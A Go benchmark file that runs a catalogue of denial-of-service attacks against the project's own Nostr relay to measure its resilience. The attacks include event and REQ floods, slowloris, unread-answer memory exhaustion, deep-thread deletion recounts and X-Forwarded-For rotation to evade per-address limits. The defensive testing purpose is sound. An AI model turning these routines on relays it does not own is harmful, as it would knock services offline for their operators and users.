package bench

import (
	"bytes"
	"context"
	crand "crypto/rand"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/fasthttp/websocket"
	"github.com/nbd-wtf/go-nostr"

	"github.com/buzz-lite/buzz-lite/buzz"
)

// The attacks of issue 13, each from the attacker's address. An attack
// may prepare before the clock starts (what it stores, what it signs)
// and then runs until its context ends, counting every action and every
// refusal; it stops when its context ends.

// attack is one attack of the list.
type attack struct {
	name, does string
	// unit names what the attack's actions are.
	unit string
	// prepare does what comes before the clock and gives the attack
	// proper; nil for the baseline, which does nothing.
	prepare func(ctx context.Context, e *env) (func(ctx context.Context), error)
	// relayEnv are the settings, as BUZZ_LITE_ variables, of the relay
	// the attack runs against, beyond the defaults.
	relayEnv []string
}

// Sizes of the attacks.
const (
	threadDepth        = 100  // levels of the deep thread, its root at depth 0
	hangupSockets      = 4    // sockets filling and dropping subscriptions at once
	hangupFilters      = 1000 // filters of the first REQ of the hang-up attack
	hangupSubsPastCap  = 10   // REQs tried past the announced max_subscriptions
	unannouncedSubs    = 50   // max_subscriptions taken when the relay announces none
	stalledReaders     = 10   // sockets that ask for large events and never read
	stalledFilters     = 30   // filters of their first REQ
	stalledLive        = 16   // live subscribers of large events that never read
	queryClients       = 32   // concurrent /query clients
	queryFilters       = 3    // filters of each /query
	floodSockets       = 8    // sockets of a multi-socket flood
	floodWindow        = 256  // unanswered events on one flooding socket
	floodKeys          = 64   // keys that sign the flood
	floodPerSecond     = 2500 // events signed for each second of a flood
	reqWindow          = 40   // unanswered REQs on one flooding socket
	countWindow        = 100  // unanswered COUNTs on one flooding socket
	socketDialers      = 64   // handshakes at once in the many-sockets attack
	slowBody           = 1000 // Content-Length a slowloris request announces
	channelWindow      = 16   // unanswered channel creations
	channelsPerKey     = 5    // channels created with one key
	walCounters        = 6    // sockets that COUNT without pause
	walWriters         = 2    // sockets that write large events meanwhile
	largeWindow        = 4    // unanswered large events on one socket
	largeKeys          = 16   // keys that sign stored large events
	walSampleEvery     = 100 * time.Millisecond
	slowlorisTrickle   = time.Second
	closedCheckWait    = 50 * time.Millisecond
	drainWait          = time.Second
	setupWait          = 3 * time.Minute // an attack's setup, rate limits waited out
	largeContentMargin = 1024            // bytes under the announced event size limit
)

var attacks = []attack{
	{name: "baseline", does: "nothing: the innocent client alone"},
	{name: "deep-thread deletion", unit: "events", prepare: deepThread, does: fmt.Sprintf(
		"publishes a thread %d deep (a fresh key per reply), then again and again a reply at depth %d, the newest below every ancestor, and its deletion, which recounts all of them",
		threadDepth, threadDepth)},
	{name: "subscriptions then hang-up", unit: "REQs", prepare: subscriptionsHangUp, does: fmt.Sprintf(
		"%d sockets at once, again and again: REQs of as many live filters as the relay accepts (%d at first, fewer once a first REQ is refused) until one is refused or %d past the announced max_subscriptions, then the TCP connection dropped",
		hangupSockets, hangupFilters, hangupSubsPastCap)},
	{name: "unread huge answers", unit: "messages", prepare: unreadAnswers, does: fmt.Sprintf(
		"%d sockets each send a REQ of %d filters (fewer once refused) for the stored large events and never read; %d live subscribers of large events never read while one socket publishes large events as fast as the relay takes them",
		stalledReaders, stalledFilters, stalledLive)},
	{name: "/query flood", unit: "requests", prepare: queryFlood, does: fmt.Sprintf(
		"%d concurrent anonymous POST /query, one after another, each of %d filters for the stored large events",
		queryClients, queryFilters)},
	{name: "event flood, one socket", unit: "events", prepare: eventFlood(1), does: fmt.Sprintf(
		"one socket publishes small events signed by %d keys, %d unanswered at a time", floodKeys, floodWindow)},
	{name: fmt.Sprintf("event flood, %d sockets", floodSockets), unit: "events", prepare: eventFlood(floodSockets), does: fmt.Sprintf(
		"%d sockets publish small events signed by %d keys, %d unanswered at a time on each", floodSockets, floodKeys, floodWindow)},
	{name: "REQ flood", unit: "REQs", prepare: readFlood("REQ", reqWindow), does: fmt.Sprintf(
		"%d sockets each keep %d REQs for the channel's 50 newest messages unanswered, closing each at its EOSE", floodSockets, reqWindow)},
	{name: "COUNT flood", unit: "COUNTs", prepare: readFlood("COUNT", countWindow), does: fmt.Sprintf(
		"%d sockets each keep %d COUNTs of the channel's messages unanswered", floodSockets, countWindow)},
	{name: "many sockets", unit: "connections", prepare: manySockets, does: fmt.Sprintf(
		"opens --abuse-sockets WebSockets, %d handshakes at a time, and holds them idle", socketDialers)},
	{name: "slowloris", unit: "connections", prepare: slowloris, does: fmt.Sprintf(
		"opens a sixth of --abuse-sockets connections to POST /query, each announcing a %d-byte body and sending one byte of it a second",
		slowBody)},
	{name: "many channels", unit: "messages", prepare: manyChannels, does: fmt.Sprintf(
		"creates channels (kind 9007, every other one private, a fresh key every %d) as fast as the relay takes them, %d unanswered at a time, while another socket REQs them by id",
		channelsPerKey, channelWindow)},
	{name: "WAL under readers", unit: "messages", prepare: walUnderReaders, does: fmt.Sprintf(
		"%d sockets COUNT the channel's messages without pause while %d sockets publish large events as fast as the relay takes them; the WAL's size is read every %s",
		walCounters, walWriters, walSampleEvery)},
	{name: "sync memory, one client", unit: "NEG-OPENs", prepare: syncHoard, does: fmt.Sprintf(
		"%d sockets each keep NEG-OPEN sessions of the %d newest events open, as many as the relay takes, never answering their first NEG-MSG; the innocent client syncs a channel's %d newest messages every %s",
		syncSockets, syncSessionItems, innocentSyncItems, innocentProbeEvery)},
	{name: "/query flood from one /64", unit: "requests", prepare: prefixQueryFlood, relayEnv: []string{"BUZZ_LITE_SERVER_TRUSTED_PROXIES=" + trustedProxy},
		does: fmt.Sprintf(
			"the relay trusts the attacker's address as a proxy; %d concurrent POST /query, one after another, each of %d filters for the stored large events, each client naming another address of one IPv6 /64 in X-Forwarded-For; the innocent client POSTs /query every %s",
			queryClients, queryFilters, innocentProbeEvery)},
	{name: "unread /query answers", unit: "requests", prepare: unreadQueries, does: fmt.Sprintf(
		"%d connections, each with a 4 KB receive buffer, POST /query for %d large events (about 6 MB), read the answer's headers and nothing more, and ask again once refused; the innocent client POSTs /query every %s",
		unreadClients, unreadLarge, innocentProbeEvery)},
}

// RelayEnv are the settings, as BUZZ_LITE_ variables, that the relay the
// attack called name runs with beyond its defaults.
func (a *Abuse) RelayEnv(name string) []string {
	for _, at := range attacks {
		if at.name == name {
			return at.relayEnv
		}
	}
	return nil
}

// deepThread: finding 1. A deletion recounts every ancestor of the
// deleted reply of which it was the newest event below; the newest reply
// at the greatest depth makes it recount them all.
func deepThread(ctx context.Context, e *env) (func(context.Context), error) {
	s := &sock{e: e}
	var root, parent *nostr.Event
	for depth := range threadDepth {
		ev, err := e.message(nostr.GeneratePrivateKey(), root, parent, fmt.Sprintf("depth %d", depth))
		if err != nil {
			return nil, err
		}
		if err := s.publish(ctx, ev); err != nil {
			s.close()
			return nil, fmt.Errorf("the thread's message at depth %d: %w", depth, err)
		}
		if root == nil {
			root = ev
		}
		parent = ev
	}
	e.setupDone("a thread %d deep in channel %s", threadDepth, e.channel)
	return func(ctx context.Context) {
		defer s.close()
		deleted := 0
		defer func() { e.note("%d replies at depth %d published and deleted", deleted, threadDepth) }()
		for ctx.Err() == nil {
			sk := nostr.GeneratePrivateKey()
			reply, err := e.message(sk, root, parent, "leaf")
			if err == nil {
				err = s.publish(ctx, reply)
			}
			var del *nostr.Event
			if err == nil {
				del = &nostr.Event{Kind: 5, CreatedAt: nostr.Now(), Tags: nostr.Tags{{"e", reply.ID}, {"h", e.channel}}}
				err = del.Sign(sk)
			}
			if err == nil {
				err = s.publish(ctx, del)
			}
			if err != nil {
				if !over(ctx) {
					e.note("stopped: %v", err)
				}
				return
			}
			deleted++
		}
	}, nil
}

// subscriptionsHangUp: finding 2. Each socket holds as many listeners as
// the relay lets it, then leaves without a CLOSE, so that the relay
// removes them all at once.
func subscriptionsHangUp(_ context.Context, e *env) (func(context.Context), error) {
	return func(ctx context.Context) {
		var filters, rounds, most atomic.Int64
		filters.Store(hangupFilters)
		var wg sync.WaitGroup
		for range hangupSockets {
			wg.Go(func() {
				for ctx.Err() == nil {
					if held, ok := e.fillAndHangUp(ctx, &filters); ok {
						rounds.Add(1)
						storeMax(&most, held)
					}
				}
			})
		}
		wg.Wait()
		e.note("%d connections filled and dropped, up to %d live filters on one when it was dropped; REQs of %d filters at the end",
			rounds.Load(), most.Load(), filters.Load())
	}, nil
}

// fillAndHangUp fills one connection with subscriptions and drops it; held
// is how many filters it held then, false when it never connected. A
// first REQ refused for other than a rate makes filters fewer for every
// socket; a later one is the subscription cap.
func (e *env) fillAndHangUp(ctx context.Context, filters *atomic.Int64) (held int64, ok bool) {
	s := &sock{e: e}
	if !s.connect(ctx) {
		return 0, false
	}
	defer s.close()
	tries := unannouncedSubs + hangupSubsPastCap
	if m := e.info.Limitation.MaxSubscriptions; m > 0 {
		tries = m + hangupSubsPastCap
	}
	accepted := 0
	for i := 0; i < tries; i++ {
		f := filters.Load()
		sub := "h" + strconv.Itoa(i)
		a, ok := s.ask(ctx, liveFilters(sub, int(f)), sub, false)
		switch {
		case !ok:
			return held, true
		case a.label == "EOSE":
			accepted++
			held += f
		case a.rateLimited():
			pause(ctx, backoff)
		case accepted > 0 || f == 1:
			return held, true
		default:
			filters.CompareAndSwap(f, fewer(f, e.info.Limitation.MaxFilters))
		}
	}
	return held, true
}

// fewer is the next filter count to try after n were refused: what the
// relay announces if that is less, else half.
func fewer(n int64, announced int) int64 {
	if announced > 0 && int64(announced) < n {
		return int64(announced)
	}
	return max(1, n/2)
}

// liveFilters is a REQ of n filters that match nothing stored and ask
// for nothing stored (limit 0): listeners only.
func liveFilters(sub string, n int) []byte {
	var b bytes.Buffer
	b.WriteString(`["REQ",` + strQuote(sub))
	for i := range n {
		fmt.Fprintf(&b, `,{"kinds":[1],"#t":["hang-%d"],"limit":0}`, i)
	}
	b.WriteString("]")
	return b.Bytes()
}

func storeMax(v *atomic.Int64, n int64) {
	for {
		old := v.Load()
		if n <= old || v.CompareAndSwap(old, n) {
			return
		}
	}
}

// unreadAnswers: finding 4, the WebSocket part: answers and live events
// queued for sockets that never read.
func unreadAnswers(ctx context.Context, e *env) (func(context.Context), error) {
	if err := e.ensureLarge(ctx); err != nil {
		return nil, err
	}
	return func(ctx context.Context) {
		live := e.tag + "-live"
		var filters, published atomic.Int64
		filters.Store(stalledFilters)
		var st stalls
		var wg sync.WaitGroup
		for range stalledReaders {
			wg.Go(func() {
				var f int64
				e.stall(ctx, &st, func(sub string) ([]byte, error) {
					f = filters.Load()
					return e.largeREQ(sub, int(f))
				}, func(a answer) {
					if !a.rateLimited() {
						filters.CompareAndSwap(f, fewer(f, e.info.Limitation.MaxFilters))
					}
				})
			})
		}
		for range stalledLive {
			wg.Go(func() {
				e.stall(ctx, &st, func(sub string) ([]byte, error) {
					return json.Marshal([]any{"REQ", sub, nostr.Filter{Kinds: []int{1}, Tags: nostr.TagMap{"t": {live}}, LimitZero: true}})
				}, func(answer) {})
			})
		}
		wg.Go(func() { e.flood(ctx, largeWindow, e.largeEvents(live), false, func(answer) { published.Add(1) }) })
		wg.Wait()
		e.note("%d of %d sockets held unread; %d large events published to the live subscribers", st.held.Load(),
			stalledReaders+stalledLive, published.Load())
		e.note("after the attack, in %s of reading each: %.0f MB had been sent to them, %d were closed by the relay",
			drainWait, float64(st.bytes.Load())/1e6, st.closed.Load())
	}, nil
}

// stalls counts the sockets of the unread-answers attack.
type stalls struct{ held, closed, bytes atomic.Int64 }

// stall subscribes with the REQ that req makes and stops reading at the
// first answer to it that is not a refusal (an EVENT or EOSE); after a
// refusal it calls refused and asks again. Once ctx ends it reads what
// the relay had sent for drainWait, to count it and whether the relay
// closed the socket, and drops it.
func (e *env) stall(ctx context.Context, st *stalls, req func(sub string) ([]byte, error), refused func(answer)) {
	s := &sock{e: e}
	defer s.close()
	for i := 0; ctx.Err() == nil; i++ {
		sub := "s" + strconv.Itoa(i)
		msg, err := req(sub)
		if err != nil {
			e.note("stopped: %v", err)
			return
		}
		a, ok := s.ask(ctx, msg, sub, true)
		if !ok {
			continue
		}
		if a.ok {
			st.held.Add(1)
			break
		}
		refused(a)
		pause(ctx, refusalPause)
	}
	<-ctx.Done()
	if s.c == nil {
		return
	}
	s.c.SetReadDeadline(time.Now().Add(drainWait))
	for {
		_, msg, err := s.c.ReadMessage()
		if err != nil {
			if !errors.Is(err, os.ErrDeadlineExceeded) {
				st.closed.Add(1)
			}
			return
		}
		st.bytes.Add(int64(len(msg)))
		if a := parseAnswer(msg); a.terminal() && !a.ok {
			e.refuse(a.refusal())
		}
	}
}

// largeREQ asks for the stored large events with n copies of one filter.
func (e *env) largeREQ(sub string, n int) ([]byte, error) {
	f, err := json.Marshal(e.largeFilter())
	if err != nil {
		return nil, err
	}
	var b bytes.Buffer
	b.WriteString(`["REQ",` + strQuote(sub))
	for range n {
		b.WriteString(",")
		b.Write(f)
	}
	b.WriteString("]")
	return b.Bytes(), nil
}

// largeFilter asks for the stored large events.
func (e *env) largeFilter() nostr.Filter {
	return nostr.Filter{Kinds: []int{1}, Tags: nostr.TagMap{"t": {e.tag}}, Limit: e.o.LargeEvents}
}

// largeEvent is a kind-1 event tagged tag whose size is just under the
// relay's announced limit, its content unique by n.
func (e *env) largeEvent(sk, tag string, n int) (*nostr.Event, error) {
	size := e.info.Limitation.MaxContentLength - largeContentMargin
	if size <= 0 {
		size = 128<<10 - largeContentMargin
	}
	content := strconv.Itoa(n) + " " + strings.Repeat("x", size)
	ev := &nostr.Event{Kind: 1, CreatedAt: nostr.Now(), Tags: nostr.Tags{{"t", tag}}, Content: content[:size]}
	if err := ev.Sign(sk); err != nil {
		return nil, err
	}
	return ev, nil
}

// largeEvents makes the EVENT of a new large event tagged tag at each
// call, from any goroutine.
func (e *env) largeEvents(tag string) func() ([]byte, error) {
	keys := &keyring{perKey: largeKeys}
	var n atomic.Int64
	return func() ([]byte, error) {
		ev, err := e.largeEvent(keys.next(), tag, int(n.Add(1)))
		if err != nil {
			return nil, err
		}
		return json.Marshal([]any{"EVENT", ev})
	}
}

// ensureLarge stores large events tagged with the run's tag until
// LargeEvents are, waiting out rate limits: once for the run, since the
// database outlives the relay process.
func (e *env) ensureLarge(ctx context.Context) error {
	if e.large >= e.o.LargeEvents {
		e.setupDone("the %d large events stored before", e.large)
		return nil
	}
	s := &sock{e: e}
	defer s.close()
	keys := &keyring{perKey: largeKeys}
	start := time.Now()
	size := 0
	for e.large < e.o.LargeEvents {
		ev, err := e.largeEvent(keys.next(), e.tag, e.large)
		if err != nil {
			return err
		}
		if err := s.publish(ctx, ev); err != nil {
			return fmt.Errorf("large event %d of %d: %w", e.large+1, e.o.LargeEvents, err)
		}
		e.large++
		size = len(ev.Content)
	}
	e.setupDone("%d large events of %d KB stored in %.1f s", e.large, size/1000, time.Since(start).Seconds())
	return nil
}

// keyring hands out private keys, a fresh one every perKey.
type keyring struct {
	mu           sync.Mutex
	key          string
	used, perKey int
}

func (k *keyring) next() string {
	k.mu.Lock()
	defer k.mu.Unlock()
	if k.key == "" || k.used == k.perKey {
		k.key, k.used = nostr.GeneratePrivateKey(), 0
	}
	k.used++
	return k.key
}

// queryFlood: finding 4, the /query part.
func queryFlood(ctx context.Context, e *env) (func(context.Context), error) {
	if err := e.ensureLarge(ctx); err != nil {
		return nil, err
	}
	filters := make([]nostr.Filter, queryFilters)
	for i := range filters {
		filters[i] = e.largeFilter()
	}
	body, err := json.Marshal(filters)
	if err != nil {
		return nil, err
	}
	return func(ctx context.Context) {
		var answered, read atomic.Int64
		var wg sync.WaitGroup
		for range queryClients {
			wg.Go(func() {
				for ctx.Err() == nil {
					if n, ok := e.query(ctx, body); ok {
						answered.Add(1)
						read.Add(n)
					} else {
						pause(ctx, refusalPause)
					}
				}
			})
		}
		wg.Wait()
		e.note("%d requests answered 200 OK, %.0f MB of answers read", answered.Load(), float64(read.Load())/1e6)
	}, nil
}

// query posts body to /query and reads the answer whole; the bytes read
// and true when it was 200 OK. Anything else is counted.
func (e *env) query(ctx context.Context, body []byte) (int64, bool) {
	return e.queryAs(ctx, body, "")
}

// queryAs is query through a proxy that names forwarded as the client;
// "" for none.
func (e *env) queryAs(ctx context.Context, body []byte, forwarded string) (int64, bool) {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, e.t.HTTP+"/query", bytes.NewReader(body))
	if err != nil {
		e.note("stopped: %v", err)
		return 0, false
	}
	req.Header.Set("Content-Type", "application/json")
	if forwarded != "" {
		req.Header.Set("X-Forwarded-For", forwarded)
	}
	e.act()
	resp, err := e.attackerHTTP.Do(req)
	if err != nil {
		e.failed(ctx, err, "HTTP request ")
		return 0, false
	}
	defer resp.Body.Close()
	n, err := io.Copy(io.Discard, resp.Body)
	switch {
	case err != nil:
		e.failed(ctx, err, "answer ")
	case resp.StatusCode != http.StatusOK:
		e.refuse(fmt.Sprintf("HTTP %d", resp.StatusCode))
	default:
		return n, true
	}
	return n, false
}

// failed counts an action whose connection failed: unanswered when the
// attack ended it, else refused that way.
func (e *env) failed(ctx context.Context, err error, what string) {
	if ended(ctx, err) {
		e.unanswered.Add(1)
		return
	}
	e.refuse(what + netFailure(err))
}

// eventFlood: finding 5, events. The events are signed before the clock
// starts, as many as a relay without limits would take, and sent again
// from the start when used up.
func eventFlood(sockets int) func(context.Context, *env) (func(context.Context), error) {
	return func(ctx context.Context, e *env) (func(context.Context), error) {
		n := min(max(int(e.o.Duration.Seconds()*floodPerSecond), 100), 50_000)
		pool, err := signPool(n, func(i int) *nostr.Event {
			return &nostr.Event{Kind: 1, CreatedAt: nostr.Now(), Content: fmt.Sprintf("flood %d %s", i, e.tag)}
		})
		if err != nil {
			return nil, err
		}
		e.setupDone("%d events signed by %d keys", len(pool), floodKeys)
		return func(ctx context.Context) {
			var next, accepted atomic.Int64
			start := time.Now()
			var wg sync.WaitGroup
			for range sockets {
				wg.Go(func() {
					e.flood(ctx, floodWindow, func() ([]byte, error) {
						return pool[int(next.Add(1)-1)%len(pool)], nil
					}, false, func(answer) { accepted.Add(1) })
				})
			}
			wg.Wait()
			e.note("%d events accepted, %.0f a second", accepted.Load(), float64(accepted.Load())/time.Since(start).Seconds())
		}, nil
	}
}

// signPool signs n events that build makes, with floodKeys keys, on
// every core, and gives their EVENT messages.
func signPool(n int, build func(i int) *nostr.Event) ([][]byte, error) {
	keys := make([]string, floodKeys)
	for i := range keys {
		keys[i] = nostr.GeneratePrivateKey()
	}
	pool := make([][]byte, n)
	errs := make([]error, runtime.NumCPU())
	var next atomic.Int64
	var wg sync.WaitGroup
	for w := range errs {
		wg.Go(func() {
			for i := int(next.Add(1) - 1); i < n; i = int(next.Add(1) - 1) {
				ev := build(i)
				if errs[w] = ev.Sign(keys[i%len(keys)]); errs[w] != nil {
					return
				}
				if pool[i], errs[w] = json.Marshal([]any{"EVENT", ev}); errs[w] != nil {
					return
				}
			}
		})
	}
	wg.Wait()
	return pool, errors.Join(errs...)
}

// readFlood: finding 5, REQs or COUNTs (verb) of the channel's messages,
// window unanswered on each socket.
func readFlood(verb string, window int) func(context.Context, *env) (func(context.Context), error) {
	return func(_ context.Context, e *env) (func(context.Context), error) {
		f := nostr.Filter{Kinds: []int{9}, Tags: nostr.TagMap{"h": {e.channel}}}
		if verb == "REQ" {
			f.Limit = 50
		}
		filter, err := json.Marshal(f)
		if err != nil {
			return nil, err
		}
		return func(ctx context.Context) {
			var n, answered atomic.Int64
			var wg sync.WaitGroup
			for range floodSockets {
				wg.Go(func() {
					e.flood(ctx, window, func() ([]byte, error) {
						return fmt.Appendf(nil, `[%q,"f%d",%s]`, verb, n.Add(1), filter), nil
					}, verb == "REQ", func(answer) { answered.Add(1) })
				})
			}
			wg.Wait()
			e.note("%d %ss answered", answered.Load(), verb)
		}, nil
	}
}

// manySockets: finding 5, sockets.
func manySockets(_ context.Context, e *env) (func(context.Context), error) {
	return func(ctx context.Context) {
		var next atomic.Int64
		var mu sync.Mutex
		var held []*websocket.Conn
		start := time.Now()
		var wg sync.WaitGroup
		for range socketDialers {
			wg.Go(func() {
				for ctx.Err() == nil && next.Add(1) <= int64(e.o.Sockets) {
					e.act()
					c, how, err := e.attacker.dial(ctx, e.t)
					switch {
					case err == nil:
						mu.Lock()
						held = append(held, c)
						mu.Unlock()
					case !over(ctx):
						e.refuse(how)
					}
				}
			})
		}
		wg.Wait()
		e.note("%d of %d WebSockets open after %.1f s", len(held), e.o.Sockets, time.Since(start).Seconds())
		<-ctx.Done()
		var closed atomic.Int64
		for _, c := range held {
			wg.Go(func() {
				defer c.Close()
				if closedByRelay(c) {
					closed.Add(1)
				}
			})
		}
		wg.Wait()
		if closed.Load() > 0 {
			e.refuseN("closed by the relay after the handshake", closed.Load())
		}
		e.note("%d of them closed by the relay by the end", closed.Load())
	}, nil
}

// closedByRelay says whether the relay has closed c: reads what it sent,
// for closedCheckWait at most.
func closedByRelay(c *websocket.Conn) bool {
	c.SetReadDeadline(time.Now().Add(closedCheckWait))
	for {
		if _, _, err := c.ReadMessage(); err != nil {
			return !errors.Is(err, os.ErrDeadlineExceeded)
		}
	}
}

// slowloris: finding 8. Each connection announces a body it sends a byte
// a second of; the relay may answer (408, 400) or close it.
func slowloris(_ context.Context, e *env) (func(context.Context), error) {
	return func(ctx context.Context) {
		n := max(1, e.o.Sockets/6)
		head := fmt.Appendf(nil, "POST /query HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n[",
			strings.TrimPrefix(e.t.HTTP, "http://"), slowBody)
		d := localDialer(e.o.Attacker)
		addr := strings.TrimPrefix(e.t.HTTP, "http://")
		var mu sync.Mutex
		var open []*slowConn
		var wg sync.WaitGroup
		var next atomic.Int64
		for range socketDialers {
			wg.Go(func() {
				for ctx.Err() == nil && next.Add(1) <= int64(n) {
					e.act()
					c, err := d.DialContext(ctx, "tcp", addr)
					if err == nil {
						c.SetWriteDeadline(writeBy(ctx))
						if _, err = c.Write(head); err != nil {
							c.Close()
						}
					}
					if err != nil {
						e.failed(ctx, err, "connection ")
						continue
					}
					sc := &slowConn{c: c, opened: time.Now(), done: make(chan struct{})}
					go sc.watch(ctx)
					mu.Lock()
					open = append(open, sc)
					mu.Unlock()
				}
			})
		}
		wg.Wait()
		start := time.Now()
		tick := time.NewTicker(slowlorisTrickle)
		for ctx.Err() == nil {
			select {
			case <-tick.C:
			case <-ctx.Done():
			}
			for _, sc := range open {
				sc.c.SetWriteDeadline(time.Now().Add(closedCheckWait))
				// A connection the relay ended fails the write; watch
				// has seen it end.
				sc.c.Write([]byte(" "))
			}
		}
		tick.Stop()
		var cut []time.Duration
		for _, sc := range open {
			sc.c.Close()
			<-sc.done
			if sc.how != "" {
				e.refuse(sc.how)
				cut = append(cut, sc.after)
			}
		}
		e.note("%d of %d connections opened; %d still open after %.0f s of trickling", len(open), n, len(open)-len(cut),
			time.Since(start).Seconds())
		if len(cut) > 0 {
			p50, _, _ := percentiles(cut)
			e.note("%d cut by the relay, %s after opening at the median", len(cut), ms(p50))
		}
	}, nil
}

// slowConn is one slowloris connection; watch sets how the relay ended
// it ("" if it did not) and after how long.
type slowConn struct {
	c      net.Conn
	opened time.Time
	done   chan struct{}
	how    string
	after  time.Duration
}

// watch reads c until the relay answers or closes it, or the attack ends.
func (sc *slowConn) watch(ctx context.Context) {
	defer close(sc.done)
	deadline, _ := ctx.Deadline()
	sc.c.SetReadDeadline(deadline)
	buf := make([]byte, 64)
	n, err := sc.c.Read(buf)
	switch {
	case n > 0:
		status, _, _ := strings.Cut(strings.TrimPrefix(string(buf[:n]), "HTTP/1.1 "), " ")
		sc.how = "cut by the relay: HTTP " + status
	case ended(ctx, err):
		return
	default:
		sc.how = "cut by the relay: connection " + netFailure(err)
	}
	sc.after = time.Since(sc.opened)
}

// manyChannels: finding 7.
func manyChannels(_ context.Context, e *env) (func(context.Context), error) {
	return func(ctx context.Context) {
		keys := &keyring{perKey: channelsPerKey}
		var made, created atomic.Int64
		var mu sync.Mutex
		var ids []string
		var wg sync.WaitGroup
		wg.Go(func() {
			e.flood(ctx, channelWindow, func() ([]byte, error) {
				i := made.Add(1)
				ev := &nostr.Event{Kind: buzz.KindCreateChannel, CreatedAt: nostr.Now(),
					Tags: nostr.Tags{{"h", newUUID()}, {"name", fmt.Sprintf("abuse %d", i)}}}
				if i%2 == 0 {
					ev.Tags = append(ev.Tags, nostr.Tag{"private"})
				}
				if err := ev.Sign(keys.next()); err != nil {
					return nil, err
				}
				return json.Marshal([]any{"EVENT", ev})
			}, false, func(a answer) {
				created.Add(1)
				mu.Lock()
				ids = append(ids, a.key)
				mu.Unlock()
			})
		})
		wg.Go(func() {
			s := &sock{e: e}
			defer s.close()
			for i := 0; ctx.Err() == nil; i++ {
				mu.Lock()
				var id string
				if len(ids) > 0 {
					id = ids[rand.IntN(len(ids))]
				}
				mu.Unlock()
				if id == "" {
					pause(ctx, refusalPause)
					continue
				}
				sub := "c" + strconv.Itoa(i)
				msg, err := json.Marshal([]any{"REQ", sub, nostr.Filter{IDs: []string{id}}})
				if err != nil {
					e.note("stopped: %v", err)
					return
				}
				if a, ok := s.ask(ctx, msg, sub, false); ok && a.ok {
					s.c.SetWriteDeadline(writeBy(ctx))
					if err := s.c.WriteMessage(websocket.TextMessage, []byte(`["CLOSE",`+strQuote(sub)+`]`)); err != nil {
						s.lost(ctx, err)
					}
				} else {
					pause(ctx, refusalPause)
				}
			}
		})
		wg.Wait()
		e.note("%d channels created", created.Load())
	}, nil
}

// newUUID is a random canonical UUID (version 4), a channel id.
func newUUID() string {
	var b [16]byte
	crand.Read(b[:])
	b[6] = b[6]&0x0f | 0x40
	b[8] = b[8]&0x3f | 0x80
	return fmt.Sprintf("%x-%x-%x-%x-%x", b[0:4], b[4:6], b[6:8], b[8:10], b[10:16])
}

// walUnderReaders: finding 6 (RL-1): writes while readers never pause.
func walUnderReaders(_ context.Context, e *env) (func(context.Context), error) {
	return func(ctx context.Context) {
		tag := e.tag + "-wal"
		count, err := json.Marshal(nostr.Filter{Kinds: []int{9}, Tags: nostr.TagMap{"h": {e.channel}}})
		if err != nil {
			e.note("stopped: %v", err)
			return
		}
		var wg sync.WaitGroup
		var written atomic.Int64
		var most int64
		wg.Go(func() {
			tick := time.NewTicker(walSampleEvery)
			defer tick.Stop()
			for {
				n, err := e.probe.WALBytes()
				if err != nil {
					e.note("the WAL's size: %v", err)
					return
				}
				most = max(most, n)
				select {
				case <-tick.C:
				case <-ctx.Done():
					return
				}
			}
		})
		for range walCounters {
			wg.Go(func() {
				s := &sock{e: e}
				defer s.close()
				for i := 0; ctx.Err() == nil; i++ {
					sub := "w" + strconv.Itoa(i)
					if a, ok := s.ask(ctx, fmt.Appendf(nil, `["COUNT",%q,%s]`, sub, count), sub, false); ok && !a.ok {
						pause(ctx, refusalPause)
					}
				}
			})
		}
		events := e.largeEvents(tag)
		for range walWriters {
			wg.Go(func() { e.flood(ctx, largeWindow, events, false, func(answer) { written.Add(1) }) })
		}
		wg.Wait()
		e.mu.Lock()
		e.wal = most
		e.mu.Unlock()
		e.note("%d large events stored meanwhile; the WAL reached %.0f MiB", written.Load(), mib(most))
	}, nil
}
